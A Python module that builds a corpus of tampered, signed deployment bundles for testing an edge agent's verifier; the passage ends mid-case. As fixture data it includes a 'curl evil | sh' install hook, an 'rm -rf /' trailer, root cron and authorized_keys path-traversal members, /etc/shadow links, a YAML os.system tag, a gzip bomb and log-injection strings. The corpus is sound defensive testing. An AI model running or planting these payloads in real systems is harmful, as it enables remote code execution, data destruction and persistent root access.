"""A corpus of hostile bundles, each named for its verdict and paired with the exact code.

Every case starts from a real, validly signed bundle made by ``tests.factory`` and breaks
exactly one thing: a signature, a root link, a time, a target, a revision, a payload
file, an archive header, the metadata bytes or a manifest. ``build`` returns a
``Scenario``: the archive bytes plus the site it is verified at (trust state, identity,
clock, limits), because some verdicts only exist relative to a site's past (a rollback
needs a newer revision in force, freeze protection needs a high-water mark).

A case may carry ``twin``: the same scenario with only the hostile detail undone, which
must verify. It proves the rejection is caused by that detail and not by something else
in the set-up (the untampered base bundle is checked the same way).

Cases whose comment says "regression" reproduce a bug this suite found and that was fixed:
an attacker-chosen string that broke the one-line message rule, or a JSON/YAML value that
escaped as a foreign exception instead of ``BundleError``.

This module builds bundles; it does not verify them (``tests/unit/test_adversarial_bundles.py``
does). Building the whole corpus takes well under a second.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

from edge_agent.bundle import canonical
from edge_agent.bundle.envelope import BUNDLE_PAYLOAD_TYPE, ROOT_PAYLOAD_TYPE, Signature
from edge_agent.bundle.trust import TrustState
from edge_agent.bundle.verify import Identity, Limits
from edge_agent.clock import UTC
from edge_agent.errors import BundleErrorCode as Code
from tests.factory import (
    APP_PATH,
    APP_YAML,
    ARTIFACT_BYTES,
    ARTIFACT_PATH,
    BLOCK_DEVICE,
    CHAR_DEVICE,
    CONTIGUOUS,
    DIRECTORY,
    FIFO,
    GNU_MAGIC,
    GNU_SPARSE,
    GOOD_FILES,
    HARD_LINK,
    IDENTITY,
    NAMESPACE_PATH,
    NAMESPACE_YAML,
    PAX_GLOBAL,
    REFERENCE_TIME,
    SYMLINK,
    Authority,
    BuiltBundle,
    TarMember,
    bundle_archive,
    gnu_long_name,
    good_bundle,
    gzip_bomb,
    header_offset,
    metadata_document,
    metadata_payload,
    pax_header,
    reencode,
    regular,
    sign,
    signatures_of,
    write_tar,
)

DAY = dt.timedelta(days=1)
EPOCH = dt.datetime(1970, 1, 1, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class Scenario:
    """An archive and the site that verifies it."""

    archive: bytes
    trust: TrustState
    identity: Identity = IDENTITY
    now: dt.datetime = REFERENCE_TIME
    limits: Limits = field(default_factory=Limits)
    key_material: tuple[str, ...] = ()  # must never appear in an error message


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    code: Code
    build: Callable[[], Scenario]
    detail: str | None = None  # a substring the message must hold where the code is broad
    twin: Callable[[], Scenario] | None = None


CASES: list[Case] = []


def case(
    name: str,
    code: Code,
    *,
    detail: str | None = None,
    twin: Callable[[], Scenario] | None = None,
) -> Callable[[Callable[[], Scenario]], Callable[[], Scenario]]:
    """Register the decorated builder as a corpus case."""

    def register(build: Callable[[], Scenario]) -> Callable[[], Scenario]:
        if any(c.name == name for c in CASES):
            raise ValueError(f"duplicate case name {name}")
        CASES.append(Case(name, code, build, detail, twin))
        return build

    return register


def at_site(authority: Authority, archive: bytes, **site: object) -> Scenario:
    """A scenario at a fresh site provisioned with ``authority``'s root v1, unless overridden."""
    site.setdefault("trust", authority.trust_state())
    return Scenario(archive=archive, key_material=authority.key_material(), **site)  # type: ignore[arg-type]


def base_scenario() -> Scenario:
    """The untampered base bundle at a fresh site: must verify (the positive control)."""
    authority = Authority()
    return at_site(authority, good_bundle(authority).archive)


def flip_bit(data: bytes, index: int, bit: int = 0) -> bytes:
    return data[:index] + bytes([data[index] ^ (1 << bit)]) + data[index + 1 :]


def signed_metadata(authority: Authority, document: dict[str, object] | bytes) -> bytes:
    """A ``bundle.json`` envelope over ``document`` (encoded canonically unless bytes)."""
    payload = document if isinstance(document, bytes) else canonical.encode(document)
    return authority.sign_bundle(payload)


def replace_member(bundle: BuiltBundle, name: str, *replacements: TarMember) -> list[TarMember]:
    """The bundle's members with ``name`` replaced by ``replacements`` (any number, or none)."""
    out: list[TarMember] = []
    for member in bundle.members():
        out += replacements if member.name == name else [member]
    return out


# ======================================================================================
# Signatures
# ======================================================================================


@case("signature-bit-flipped", Code.SIGNATURE_INVALID)
def _signature_bit_flipped() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    (signature,) = signatures_of(bundle.envelope)
    forged = Signature(signature.keyid, flip_bit(signature.sig, 17, 3))
    return at_site(authority, bundle_archive(reencode(bundle.envelope, signatures=[forged])))


@case("payload-changed-after-signing", Code.SIGNATURE_INVALID)
def _payload_changed_after_signing() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    bumped = bundle.payload.replace(b'"revision":1', b'"revision":9')
    assert bumped != bundle.payload
    return at_site(authority, bundle_archive(reencode(bundle.envelope, payload=bumped)))


@case("signature-missing", Code.SIGNATURE_MISSING)
def _signature_missing() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    return at_site(authority, bundle_archive(reencode(bundle.envelope, signatures=[])))


def _two_of_two(signers: int) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority("two-of-two", policy_keys=2, policy_threshold=2)
        bundle = good_bundle(authority, signers=authority.current.policy_keys[:signers])
        return at_site(authority, bundle.archive)

    return build


case("threshold-not-met", Code.THRESHOLD_NOT_MET, twin=_two_of_two(2))(_two_of_two(1))


@case("same-key-signed-twice", Code.DUPLICATE_SIGNATURE, twin=_two_of_two(2))
def _same_key_signed_twice() -> Scenario:
    # Threshold 2: the one key's second signature must not count as a second signer.
    authority = Authority("two-of-two", policy_keys=2, policy_threshold=2)
    key = authority.current.policy_keys[0]
    return at_site(authority, good_bundle(authority, signers=[key, key]).archive)


@case("unknown-key", Code.KEY_UNKNOWN)
def _unknown_key() -> Scenario:
    authority = Authority()
    stranger = Authority("stranger").policy_key
    return at_site(authority, good_bundle(authority, signers=[stranger]).archive)


@case("root-key-signs-policy", Code.KEY_UNKNOWN)
def _root_key_signs_policy() -> Scenario:
    # A root key is trusted for roots only, never for bundle metadata.
    authority = Authority()
    return at_site(authority, good_bundle(authority, signers=[authority.root_key]).archive)


def _revoked(signed_by_compromised: bool, carried: bool) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority()
        compromised = authority.policy_key
        authority.rotate(drop_policy=[compromised], add_policy=1)
        signer = compromised if signed_by_compromised else authority.policy_key
        bundle = good_bundle(authority, signers=[signer], with_roots=carried)
        trust = authority.trust_state(at_version=1 if carried else 2)
        return at_site(authority, bundle.archive, trust=trust)

    return build


case("revoked-key-rotation-carried", Code.KEY_REVOKED, twin=_revoked(False, True))(
    _revoked(True, True)
)
case("revoked-key-rotation-trusted", Code.KEY_REVOKED, twin=_revoked(False, False))(
    _revoked(True, False)
)


@case("unknown-keyid-with-newline", Code.KEY_UNKNOWN)
def _unknown_keyid_with_newline() -> Scenario:
    # Regression: the key id is unauthenticated and was quoted raw, forging a log line.
    authority = Authority()
    bundle = good_bundle(authority)
    forged = Signature("x\nINFO accepted", bytes(64))
    return at_site(authority, bundle_archive(reencode(bundle.envelope, signatures=[forged])))


# ======================================================================================
# Root chain
# ======================================================================================


def _rotated(versions: int) -> Authority:
    authority = Authority()
    for _ in range(versions - 1):
        authority.rotate()
    return authority


@case("root-version-skipped", Code.ROOT_CHAIN_BROKEN)
def _root_version_skipped() -> Scenario:
    authority = _rotated(3)
    bundle = good_bundle(authority, with_roots=False)
    roots = [("roots/3.json", authority.roots[2].envelope)]
    return at_site(authority, bundle_archive(bundle.envelope, roots=roots))


def _forged_v2(**forgery: object) -> Callable[[], Scenario]:
    """A bundle carrying ``roots/2.json`` made by ``next_root(**forgery)``."""

    def build() -> Scenario:
        authority = Authority()
        forged = authority.next_root(**forgery)  # type: ignore[arg-type]
        authority.roots.append(forged)
        bundle = good_bundle(authority, with_roots=False)
        roots = [("roots/2.json", forged.envelope)]
        return at_site(authority, bundle_archive(bundle.envelope, roots=roots))

    return build


# Regression: a failed rotation rule was reported as the bare signature code (key-unknown);
# it is root-chain-broken, with the underlying reason named in the message.
case(
    "root-not-signed-by-previous-root",
    Code.ROOT_CHAIN_BROKEN,
    detail="[key-unknown]",
    twin=_forged_v2(),
)(_forged_v2(signed_by_old=False))
case(
    "root-not-signed-by-its-own-keys",
    Code.ROOT_CHAIN_BROKEN,
    detail="[key-unknown]",
    twin=_forged_v2(),
)(_forged_v2(signed_by_new=False))
case("root-version-name-mismatch", Code.ROOT_CHAIN_BROKEN, detail="holds version 3")(
    _forged_v2(version=3)
)


@case("roots-out-of-order", Code.ROOT_CHAIN_BROKEN)
def _roots_out_of_order() -> Scenario:
    authority = _rotated(3)
    bundle = good_bundle(authority)
    return at_site(authority, bundle_archive(bundle.envelope, roots=reversed(bundle.roots)))


@case("roots-descending-after-trusted", Code.ROOT_CHAIN_BROKEN, detail="comes after")
def _roots_descending_after_trusted() -> Scenario:
    # v3 is already trusted, so roots/3 is skipped; roots/2 after it is out of order.
    authority = _rotated(3)
    bundle = good_bundle(authority)
    archive = bundle_archive(bundle.envelope, roots=reversed(bundle.roots))
    return at_site(authority, archive, trust=authority.trust_state(at_version=3))


@case("root-repeated", Code.FILE_DUPLICATE)
def _root_repeated() -> Scenario:
    authority = _rotated(2)
    bundle = good_bundle(authority)
    return at_site(authority, bundle_archive(bundle.envelope, roots=bundle.roots * 2))


@case("root-member-misnamed", Code.FILE_UNLISTED)
def _root_member_misnamed() -> Scenario:
    authority = _rotated(2)
    bundle = good_bundle(authority)
    roots = [("roots/02.json", authority.roots[1].envelope)]
    return at_site(authority, bundle_archive(bundle.envelope, roots=roots))


def _edited_v2(change: Callable[[dict[str, Any]], object]) -> Callable[[], Scenario]:
    """A bundle carrying a v2 root whose document ``change`` edited, then signed by the
    v1 and v2 root keys as the rotation rule asks (so the document itself is parsed)."""

    def build() -> Scenario:
        authority = Authority()
        v2 = authority.next_root()
        document = canonical.decode(v2.payload, max_bytes=1 << 20)
        change(document)
        payload = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
        envelope = sign(ROOT_PAYLOAD_TYPE, payload, [authority.root_key, *v2.root_keys])
        bundle = good_bundle(authority)
        roots = [("roots/2.json", envelope)]
        return at_site(authority, bundle_archive(bundle.envelope, roots=roots))

    return build


def _swap_public_key(document: dict[str, Any]) -> None:
    """Give the first key entry another key's public value, so its key id lies."""
    keys = document["keys"]
    first, second = sorted(keys)[:2]
    keys[first] = dict(keys[second])


case("root-keyid-mismatch", Code.ROOT_INVALID, detail="does not match")(
    _edited_v2(_swap_public_key)
)
case("root-threshold-zero", Code.ROOT_INVALID, detail="threshold")(
    _edited_v2(lambda doc: doc["roles"]["policy"].update(threshold=0))
)
# Regression: a list inside keyids raised TypeError (unhashable) from set(keyids).
case("root-role-keyids-not-strings", Code.ROOT_INVALID)(
    _edited_v2(lambda doc: doc["roles"]["policy"].update(keyids=[doc["roles"]["policy"]["keyids"]]))
)
# Regression: key ids of the root document were quoted raw (multi-line message).
case("root-keyid-with-newline", Code.ROOT_INVALID)(
    _edited_v2(lambda doc: doc["keys"].update({"x\nINFO accepted": {"keytype": "rsa"}}))
)


@case("root-expired", Code.ROOT_EXPIRED)
def _root_expired() -> Scenario:
    authority = Authority(expires_at=REFERENCE_TIME - DAY)
    return at_site(authority, good_bundle(authority).archive)


@case("rotated-root-expired", Code.ROOT_EXPIRED, detail="version 2")
def _rotated_root_expired() -> Scenario:
    authority = Authority()
    authority.rotate(expires_at=REFERENCE_TIME - DAY)
    return at_site(authority, good_bundle(authority).archive)


# ======================================================================================
# Time: expiry, freeze protection, the future
# ======================================================================================


@case("bundle-expired", Code.BUNDLE_EXPIRED)
def _bundle_expired() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority, issued_at=REFERENCE_TIME - 40 * DAY)
    return at_site(authority, bundle.archive)


def _stale_bundle(now: dt.datetime, high_water: dt.datetime | None) -> Callable[[], Scenario]:
    """Revision 2, valid from REF-70d to REF-40d, at a site where revision 1 is in force."""

    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(
            authority,
            revision=2,
            issued_at=REFERENCE_TIME - 70 * DAY,
            expires_at=REFERENCE_TIME - 40 * DAY,
        )
        trust = authority.trust_state(revision=1, digest="0" * 64, time_high_water=high_water)
        return at_site(authority, bundle.archive, trust=trust, now=now)

    return build


case(
    "clock-set-back-below-high-water",
    Code.BUNDLE_EXPIRED,
    # Without the high-water mark the set-back clock would make the stale bundle valid.
    twin=_stale_bundle(REFERENCE_TIME - 60 * DAY, None),
)(_stale_bundle(REFERENCE_TIME - 60 * DAY, REFERENCE_TIME))
case("clock-at-1970-below-high-water", Code.BUNDLE_EXPIRED)(_stale_bundle(EPOCH, REFERENCE_TIME))


@case("clock-at-1970-expired-before-floor", Code.BUNDLE_EXPIRED)
def _clock_at_1970_expired_before_floor() -> Scenario:
    # An unset clock is read as the time floor (2026-01-01), never as 1970.
    authority = Authority()
    bundle = good_bundle(
        authority,
        issued_at=dt.datetime(2025, 11, 1, tzinfo=UTC),
        expires_at=dt.datetime(2025, 12, 1, tzinfo=UTC),
    )
    return at_site(authority, bundle.archive, now=EPOCH)


def _issued_in_30_days(now: dt.datetime) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(authority, issued_at=REFERENCE_TIME + 30 * DAY)
        return at_site(authority, bundle.archive, now=now)

    return build


case(
    "issued-far-in-future",
    Code.NOT_YET_VALID,
    twin=_issued_in_30_days(REFERENCE_TIME + 30 * DAY),
)(_issued_in_30_days(REFERENCE_TIME))


# ======================================================================================
# Revision and target
# ======================================================================================


def _at_revision_5(revision: int, *, same_content: bool = False) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(authority, revision=revision)
        digest = bundle.digest if same_content else "0" * 64
        trust = authority.trust_state(revision=5, digest=digest, time_high_water=REFERENCE_TIME)
        return at_site(authority, bundle.archive, trust=trust)

    return build


case("rollback", Code.ROLLBACK, twin=_at_revision_5(6))(_at_revision_5(4))
case("revision-conflict", Code.REVISION_CONFLICT, twin=_at_revision_5(5, same_content=True))(
    _at_revision_5(5)
)


def _targeted(target: dict[str, object]) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority()
        return at_site(authority, good_bundle(authority, target=target).archive)

    return build


case("wrong-cluster", Code.WRONG_TARGET)(_targeted({"cluster_id": "site-2"}))
case(
    "label-selector-mismatch",
    Code.WRONG_TARGET,
    twin=_targeted({"labels": {"region": "north", "tier": "edge"}}),
)(_targeted({"labels": {"region": "north", "tier": "core"}}))


# ======================================================================================
# Payload files against the signed list
# ======================================================================================


def _payload(**changes: TarMember | None) -> Callable[[], Scenario]:
    """The base bundle with payload members replaced (a member) or removed (None)."""

    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(authority)
        members = []
        for member in bundle.members():
            key = member.name.removeprefix("payload/")
            if key in changes:
                if changes[key] is not None:
                    members.append(changes[key])
            else:
                members.append(member)
        return at_site(authority, write_tar(members))  # type: ignore[arg-type]

    return build


ARTIFACT_NAME = f"payload/{ARTIFACT_PATH}"
NAMESPACE_NAME = f"payload/{NAMESPACE_PATH}"

case("manifest-hash-mismatch", Code.HASH_MISMATCH, detail=NAMESPACE_PATH)(
    _payload(
        **{
            NAMESPACE_PATH: regular(
                NAMESPACE_NAME, NAMESPACE_YAML.replace(b"hello-web", b"kube-syst")
            )
        }
    )
)
case("artifact-hash-mismatch", Code.HASH_MISMATCH, detail=ARTIFACT_PATH)(
    _payload(**{ARTIFACT_PATH: regular(ARTIFACT_NAME, ARTIFACT_BYTES.upper())})
)
case("length-mismatch", Code.LENGTH_MISMATCH)(
    _payload(**{ARTIFACT_PATH: regular(ARTIFACT_NAME, ARTIFACT_BYTES + b"!")})
)
case("file-missing", Code.FILE_MISSING, detail=ARTIFACT_PATH)(_payload(**{ARTIFACT_PATH: None}))


def _appended(*extra: TarMember) -> Callable[[], Scenario]:
    """The base bundle with members added after its payload."""

    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(authority)
        return at_site(authority, write_tar([*bundle.members(), *extra]))

    return build


case("file-unlisted", Code.FILE_UNLISTED)(
    _appended(regular("payload/layers/app/extra.yaml", b"apiVersion: v1\n"))
)
case("member-outside-payload", Code.FILE_UNLISTED)(_appended(regular("etc/passwd", b"root::0:0\n")))
case("duplicate-payload-member", Code.FILE_DUPLICATE)(
    _appended(regular(f"payload/{APP_PATH}", APP_YAML))
)


@case("duplicate-bundle-json", Code.FILE_DUPLICATE)
def _duplicate_bundle_json() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    other = good_bundle(authority, revision=2)
    return at_site(
        authority, write_tar([*bundle.members(), regular("bundle.json", other.envelope)])
    )


@case("root-after-bundle-json", Code.ARCHIVE_LAYOUT)
def _root_after_bundle_json() -> Scenario:
    authority = _rotated(2)
    bundle = good_bundle(authority, with_roots=False)
    members = [*bundle.members(), regular("roots/2.json", authority.roots[1].envelope)]
    return at_site(authority, write_tar(members))


@case("metadata-unsafe-file-path", Code.UNSAFE_PATH)
def _metadata_unsafe_file_path() -> Scenario:
    authority = Authority()
    document = metadata_document()
    document["files"]["../../etc/cron.d/evil"] = document["files"].pop(ARTIFACT_PATH)
    document["artifacts"] = [{"path": "../../etc/cron.d/evil", "kind": "file"}]
    return at_site(authority, bundle_archive(signed_metadata(authority, document)))


# ======================================================================================
# Archive members: names and types
# ======================================================================================


def _hostile_artifact(member: TarMember) -> Callable[[], Scenario]:
    """The base bundle with its artifact member replaced by ``member``."""
    return _payload(**{ARTIFACT_PATH: member})


case("absolute-path", Code.UNSAFE_PATH)(
    _appended(regular("/etc/cron.d/evil", b"* * * * * root sh\n"))
)
case("dotdot-path", Code.UNSAFE_PATH)(
    _appended(regular("payload/../../etc/cron.d/evil", b"* * * * * root sh\n"))
)
case("pax-path-escapes", Code.UNSAFE_PATH)(
    _appended(
        pax_header({"path": "payload/../../root/.ssh/authorized_keys"}), regular("payload/x", b"k")
    )
)
case("symlink-member", Code.UNSAFE_MEMBER_TYPE, detail="symbolic link")(
    _hostile_artifact(TarMember(ARTIFACT_NAME, typeflag=SYMLINK, linkname="/etc/shadow"))
)
case("hardlink-member", Code.UNSAFE_MEMBER_TYPE, detail="hard link")(
    _hostile_artifact(TarMember(ARTIFACT_NAME, typeflag=HARD_LINK, linkname="bundle.json"))
)
case("char-device-member", Code.UNSAFE_MEMBER_TYPE, detail="character device")(
    _hostile_artifact(
        TarMember(ARTIFACT_NAME, typeflag=CHAR_DEVICE, header_patch={329: b"0000001\x00"})
    )
)
case("block-device-member", Code.UNSAFE_MEMBER_TYPE, detail="block device")(
    _hostile_artifact(
        TarMember(ARTIFACT_NAME, typeflag=BLOCK_DEVICE, header_patch={329: b"0000010\x00"})
    )
)
case("directory-member", Code.UNSAFE_MEMBER_TYPE, detail="directory")(
    _appended(TarMember("payload/layers/", typeflag=DIRECTORY, mode=0o755))
)
case("fifo-member", Code.UNSAFE_MEMBER_TYPE, detail="FIFO")(
    _hostile_artifact(TarMember(ARTIFACT_NAME, typeflag=FIFO))
)
case("contiguous-file-member", Code.UNSAFE_MEMBER_TYPE, detail="contiguous")(
    _hostile_artifact(TarMember(ARTIFACT_NAME, ARTIFACT_BYTES, typeflag=CONTIGUOUS))
)
case("gnu-long-name", Code.UNSAFE_MEMBER_TYPE, detail="GNU long name")(
    _appended(
        gnu_long_name("payload/" + "very-long-directory-name/" * 6 + "file.yaml"),
        regular("payload/short.yaml", b"x"),
    )
)
case("gnu-sparse-member", Code.UNSAFE_MEMBER_TYPE, detail="sparse")(
    _hostile_artifact(TarMember(ARTIFACT_NAME, ARTIFACT_BYTES, typeflag=GNU_SPARSE))
)
case("global-pax-header", Code.UNSAFE_MEMBER_TYPE, detail="global pax")(
    _appended(pax_header({"comment": "applies to every member"}, typeflag=PAX_GLOBAL))
)
case("sparse-pax-keys", Code.UNSAFE_MEMBER_TYPE, detail="sparse")(
    _appended(
        pax_header(
            {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "payload/x"}
        ),
        regular("payload/x", b"0"),
    )
)
case("pax-linkpath", Code.UNSAFE_MEMBER_TYPE, detail="linkpath")(
    _appended(pax_header({"linkpath": "/etc/shadow"}), regular("payload/x", b"0"))
)


# ======================================================================================
# Archive layout and structure
# ======================================================================================


@case("payload-before-bundle-json", Code.ARCHIVE_LAYOUT)
def _payload_before_bundle_json() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    members = bundle.members()
    return at_site(authority, write_tar([members[1], members[0], *members[2:]]))


@case("no-bundle-json", Code.ARCHIVE_LAYOUT)
def _no_bundle_json() -> Scenario:
    authority = Authority()
    return at_site(authority, write_tar(replace_member(good_bundle(authority), "bundle.json")))


@case("empty-archive", Code.ARCHIVE_LAYOUT)
def _empty_archive() -> Scenario:
    return at_site(Authority(), write_tar([]))


def _limited(limits: Limits, *, compress: bool = False) -> Callable[[], Scenario]:
    def build() -> Scenario:
        authority = Authority()
        bundle = good_bundle(authority, compress=compress)
        return at_site(authority, bundle.archive, limits=limits)

    return build


case("archive-over-size-limit", Code.TOO_LARGE, detail="archive is larger")(
    _limited(Limits(max_bundle_bytes=4096))
)
case("file-over-size-limit", Code.TOO_LARGE, detail=ARTIFACT_PATH)(
    _limited(Limits(max_file_bytes=16))
)
case("manifest-over-size-limit", Code.TOO_LARGE, detail=APP_PATH)(
    _limited(Limits(max_manifest_bytes=128))
)
case("metadata-over-size-limit", Code.TOO_LARGE, detail="bundle.json")(
    _limited(Limits(max_metadata_bytes=256))
)
case("too-many-members", Code.TOO_LARGE, detail="members")(_limited(Limits(max_members=3)))


@case("gzip-bomb", Code.TOO_LARGE, detail="inflates")
def _gzip_bomb() -> Scenario:
    authority = Authority()
    limit = 1 << 20
    archive = gzip_bomb(good_bundle(authority).archive, inflated_bytes=64 << 20)
    assert len(archive) < limit // 4, "the bomb must be small compressed"
    return at_site(authority, archive, limits=Limits(max_bundle_bytes=limit))


@case("truncated-archive", Code.ARCHIVE_TRUNCATED)
def _truncated_archive() -> Scenario:
    authority = Authority()
    archive = good_bundle(authority).archive
    cut = header_offset(archive, f"payload/{APP_PATH}") + 512 + 100
    return at_site(authority, archive[:cut])


@case("truncated-gzip", Code.ARCHIVE_TRUNCATED)
def _truncated_gzip() -> Scenario:
    authority = Authority()
    archive = good_bundle(authority, compress=True).archive
    return at_site(authority, archive[: len(archive) // 2])


@case("missing-end-of-archive", Code.ARCHIVE_TRUNCATED)
def _missing_end_of_archive() -> Scenario:
    authority = Authority()
    return at_site(authority, write_tar(good_bundle(authority).members(), end_blocks=0))


@case("corrupt-gzip-crc", Code.ARCHIVE_MALFORMED, detail="gzip")
def _corrupt_gzip_crc() -> Scenario:
    authority = Authority()
    archive = good_bundle(authority, compress=True).archive
    return at_site(authority, flip_bit(archive, len(archive) - 8))  # CRC-32 of the trailer


@case("corrupt-gzip-header", Code.ARCHIVE_MALFORMED, detail="gzip")
def _corrupt_gzip_header() -> Scenario:
    authority = Authority()
    archive = good_bundle(authority, compress=True).archive
    return at_site(authority, archive[:2] + b"\x07" + archive[3:])  # unknown compression method


@case("trailing-garbage", Code.ARCHIVE_MALFORMED, detail="after the end")
def _trailing_garbage() -> Scenario:
    authority = Authority()
    members = good_bundle(authority).members()
    return at_site(authority, write_tar(members, trailer=bytes(4096) + b"#!/bin/sh\nrm -rf /\n"))


@case("gzip-trailing-garbage", Code.ARCHIVE_MALFORMED, detail="gzip")
def _gzip_trailing_garbage() -> Scenario:
    authority = Authority()
    return at_site(authority, good_bundle(authority, compress=True).archive + b"\x00junk")


@case("bad-header-checksum", Code.ARCHIVE_MALFORMED, detail="checksum")
def _bad_header_checksum() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    (member,) = [m for m in bundle.members() if m.name == "bundle.json"]
    members = replace_member(bundle, "bundle.json", replace(member, checksum=12345))
    return at_site(authority, write_tar(members))


@case("non-ustar-header", Code.ARCHIVE_MALFORMED, detail="ustar")
def _non_ustar_header() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    (member,) = [m for m in bundle.members() if m.name == "bundle.json"]
    return at_site(
        authority,
        write_tar(replace_member(bundle, "bundle.json", replace(member, magic=GNU_MAGIC))),
    )


@case("base256-size", Code.ARCHIVE_MALFORMED, detail="base-256")
def _base256_size() -> Scenario:
    authority = Authority()
    bundle = good_bundle(authority)
    (member,) = [m for m in bundle.members() if m.name == "bundle.json"]
    patched = replace(member, header_patch={124: b"\x80" + bytes(10) + b"\x10"})
    return at_site(authority, write_tar(replace_member(bundle, "bundle.json", patched)))


# ======================================================================================
# Metadata bytes (all validly signed: the parser itself is under test)
# ======================================================================================


def _metadata_bytes(make: Callable[[bytes], bytes]) -> Callable[[], Scenario]:
    """The base bundle whose metadata payload is ``make(canonical payload)``, signed."""

    def build() -> Scenario:
        authority = Authority()
        payload = make(canonical.encode(metadata_document()))
        return at_site(authority, bundle_archive(authority.sign_bundle(payload)))

    return build


def _metadata_doc(change: Callable[[dict[str, Any]], object]) -> Callable[[], Scenario]:
    """The base bundle with its metadata document changed in place, then signed."""

    def make(payload: bytes) -> bytes:
        document = json.loads(payload)
        change(document)
        # The canonical layout, without canonical.encode's own checks (depth, types).
        return json.dumps(document, sort_keys=True, separators=(",", ":")).encode()

    return _metadata_bytes(make)


def _deeply_nested(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


case("envelope-not-json", Code.METADATA_MALFORMED)(
    lambda: at_site(Authority(), bundle_archive(b"{not json"))
)
case("metadata-not-canonical", Code.METADATA_MALFORMED, detail="canonical")(
    _metadata_bytes(lambda payload: json.dumps(json.loads(payload), indent=1).encode())
)
case("metadata-duplicate-keys", Code.METADATA_MALFORMED, detail="duplicate key")(
    _metadata_bytes(lambda payload: payload.replace(b'"revision":1', b'"revision":1,"revision":9'))
)
case("metadata-not-utf8", Code.METADATA_MALFORMED, detail="UTF-8")(
    _metadata_bytes(lambda payload: payload.replace(b"hello-web-r1", b"hello-web-r\xff"))
)
case("metadata-nesting-too-deep", Code.METADATA_MALFORMED, detail="nest")(
    _metadata_doc(lambda doc: doc.update(layers=_deeply_nested(40)))
)
case("metadata-float", Code.METADATA_MALFORMED, detail="floating-point")(
    _metadata_bytes(lambda payload: payload.replace(b'"revision":1', b'"revision":1.0'))
)
case("metadata-unknown-field", Code.METADATA_MALFORMED, detail="unknown field")(
    _metadata_doc(lambda doc: doc.update(post_install_hook="curl evil | sh"))
)
case("metadata-missing-field", Code.METADATA_MALFORMED, detail="missing field")(
    _metadata_doc(lambda doc: doc.pop("expires_at"))
)
case("unsupported-format-version", Code.UNSUPPORTED_FORMAT)(
    _metadata_doc(lambda doc: doc.update(format_version=2))
)
# Regression: a string format_version was quoted raw (multi-line message).
case("format-version-with-newline", Code.UNSUPPORTED_FORMAT)(
    _metadata_doc(lambda doc: doc.update(format_version="2\nINFO accepted"))
)
# Regression: a list as kind raised TypeError (unhashable) from `kind in ARTIFACT_KINDS`.
case("artifact-kind-not-a-string", Code.METADATA_MALFORMED, detail="artifact kind")(
    _metadata_doc(lambda doc: doc["artifacts"][0].update(kind=["file"]))
)


@case("root-envelope-as-bundle-json", Code.WRONG_TYPE)
def _root_envelope_as_bundle_json() -> Scenario:
    authority = Authority()
    return at_site(authority, bundle_archive(authority.roots[0].envelope))


@case("bundle-signed-as-root-type", Code.WRONG_TYPE)
def _bundle_signed_as_root_type() -> Scenario:
    authority = Authority()
    envelope = authority.sign_bundle(metadata_document_bytes(), payload_type=ROOT_PAYLOAD_TYPE)
    return at_site(authority, bundle_archive(envelope))


@case("root-document-signed-as-bundle", Code.WRONG_TYPE, detail="document type")
def _root_document_signed_as_bundle() -> Scenario:
    authority = Authority()
    envelope = authority.sign_bundle(authority.current.payload, payload_type=BUNDLE_PAYLOAD_TYPE)
    return at_site(authority, bundle_archive(envelope))


def metadata_document_bytes() -> bytes:
    return canonical.encode(metadata_document())


# ======================================================================================
# Manifests (validly listed and signed: the YAML loader itself is under test)
# ======================================================================================


def _manifest(text: bytes) -> Callable[[], Scenario]:
    """The base bundle with the namespace manifest replaced by ``text``, listed and signed."""

    def build() -> Scenario:
        authority = Authority()
        files = {**GOOD_FILES, NAMESPACE_PATH: text}
        return at_site(authority, good_bundle(authority, files=files).archive)

    return build


def _billion_laughs(levels: int, fan_out: int) -> bytes:
    lines = ["a0: &a0 lol"]
    for level in range(1, levels + 1):
        refs = ", ".join(f"*a{level - 1}" for _ in range(fan_out))
        lines.append(f"a{level}: &a{level} [{refs}]")
    return ("\n".join(lines) + "\n").encode()


NAMESPACE_HEAD = b"apiVersion: v1\nkind: Namespace\n"

case("yaml-not-utf8", Code.YAML_INVALID, detail="UTF-8")(
    _manifest(NAMESPACE_HEAD + b"metadata:\n  name: caf\xe9\n")
)
case("yaml-malformed", Code.YAML_INVALID, detail="not valid YAML")(
    _manifest(b"apiVersion: v1\nkind: [Namespace\nmetadata: {name: x}\n")
)
case("yaml-duplicate-keys", Code.YAML_INVALID, detail="duplicate key")(
    _manifest(NAMESPACE_HEAD + b"kind: ClusterRoleBinding\nmetadata: {name: x}\n")
)
case("yaml-merge-key", Code.YAML_INVALID, detail="merge")(
    _manifest(b"base: &base {name: x}\n" + NAMESPACE_HEAD + b"metadata:\n  <<: *base\n")
)
case("yaml-python-tag", Code.YAML_INVALID, detail="tag")(
    _manifest(
        NAMESPACE_HEAD
        + b"metadata:\n  name: !!python/object/apply:os.system ['touch /tmp/pwned']\n"
    )
)
case("yaml-custom-tag", Code.YAML_INVALID, detail="tag")(
    _manifest(NAMESPACE_HEAD + b"metadata:\n  name: !include /etc/shadow\n")
)
case("yaml-billion-laughs", Code.YAML_INVALID, detail="expands")(
